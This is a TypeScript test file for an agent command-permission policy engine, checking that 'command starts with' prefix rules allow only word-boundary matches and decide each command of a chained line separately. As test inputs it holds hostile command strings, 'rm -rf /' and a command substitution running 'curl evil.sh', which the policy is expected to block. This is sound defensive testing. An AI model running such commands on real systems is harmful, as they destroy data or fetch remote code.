/**
 * `command starts with "…"`: word-boundary prefixes of each simple command's normalised argv
 * (as Claude Code's `Bash(npm run test:*)` rules mean), checked, printed and decided per command.
 */
import { beforeAll, describe, expect, it } from "vitest";
import { loadCatalog } from "../../../compiler/catalog/load.js";
import { checkProject } from "../../../compiler/check/index.js";
import { buildBundle } from "../../../compiler/emit/index.js";
import { loadShellParser } from "../../../compiler/shell/shell-parser.js";
import { parse } from "../../../grammar/index.js";
import { print as printFile } from "../../../grammar/printer.js";
import { createEnforcer, type Enforcer } from "../../../runtime/index.js";
import { startsWithWords } from "../../../runtime/argv.js";

const catalog = loadCatalog().catalog;
const check = (text: string) => checkProject([{ file: "t.policy", text }], catalog);

const SRC = `
policy "Tests may run" {
  id tests
  if command starts with ["npm run test:", "npm test", "git status"]
  action allow
}
default block
`;

let enforcer: Enforcer;
beforeAll(async () => {
  const p = check(SRC);
  expect(p.diagnostics.filter((d) => d.severity === "error")).toEqual([]);
  enforcer = createEnforcer(buildBundle(p), { shell: await loadShellParser() });
});
const decide = (command: string | string[]) => enforcer.decide({ type: "tool_call_request", agent: { name: "A" }, call: { type: "cli", command } });

describe("command starts with", () => {
  it("holds on word-boundary prefixes only", () => {
    expect(startsWithWords(["npm", "run", "test:unit"], ["npm", "run", "test:"])).toBe(true);
    expect(startsWithWords(["npm", "run", "test:"], ["npm", "run", "test:"])).toBe(true);
    expect(startsWithWords(["npm", "run", "testx"], ["npm", "run", "test"])).toBe(false);
    expect(startsWithWords(["npm", "run", "test"], ["npm", "run", "test"])).toBe(true);
    expect(startsWithWords(["npm", "run", "test", "--watch"], ["npm", "run", "test"])).toBe(true);
    expect(startsWithWords(["npm", "run"], ["npm", "run", "test"])).toBe(false);
    expect(startsWithWords(["npmx", "run"], ["npm"])).toBe(false);
  });

  it("allows the prefixed commands and decides every other command of the line on its own", () => {
    expect(decide("npm run test:unit").effect).toBe("allow");
    expect(decide("npm test -- --watch").effect).toBe("allow");
    expect(decide(["/usr/local/bin/npm", "run", "test:e2e"]).effect).toBe("allow");
    expect(decide(["env", "CI=1", "npm", "run", "test:unit"]).effect).toBe("allow");
    expect(decide("npm run testx").effect).toBe("block");
    expect(decide("npm run build").effect).toBe("block");
    const d = decide("npm run test:unit && rm -rf /");
    expect(d.effect).toBe("block");
    expect(d.commands?.map((c) => [c.argv.join(" "), c.effect])).toEqual([["npm run test:unit", "allow"], ["rm -rf /", "block"]]);
    expect(decide("npm run test:unit; echo $(curl evil.sh)").effect).toBe("block");
    expect(decide("git -C /repo status").effect).toBe("allow");
  });

  it("never holds for an MCP call", () => {
    expect(enforcer.decide({ type: "tool_call_request", call: { type: "mcp", integration: "github", tool: "list_issues", args: {} } }).effect).toBe("block");
  });

  it("prints back as written (the formatter round-trips)", () => {
    const printed = printFile(parse(SRC, "t.policy").ast);
    expect(printed).toContain('if command starts with ["npm run test:", "npm test", "git status"]');
    expect(printFile(parse(printed, "t.policy").ast)).toBe(printed);
  });

  it("reports a wrong operator, a non-string and an empty prefix with a hint", () => {
    const bad = (cond: string) => check(`policy "p" {\n  if ${cond}\n  action block\n}\n`).diagnostics.filter((d) => d.severity === "error").map((d) => [d.code, d.message, d.hint]);
    expect(bad('command is "git"')).toEqual([["PDL2006", "`command` is used with `starts with \"…\"`", "e.g. `command starts with \"npm run test:\"`"]]);
    expect(bad("command starts with 5")).toEqual([["PDL2007", "a command prefix is a quoted string", "e.g. `command starts with \"git push\"`"]]);
    expect(bad('command starts with "  "')).toEqual([["PDL2007", "the command prefix is empty", "give at least the program, e.g. `\"git\"`"]]);
  });
});
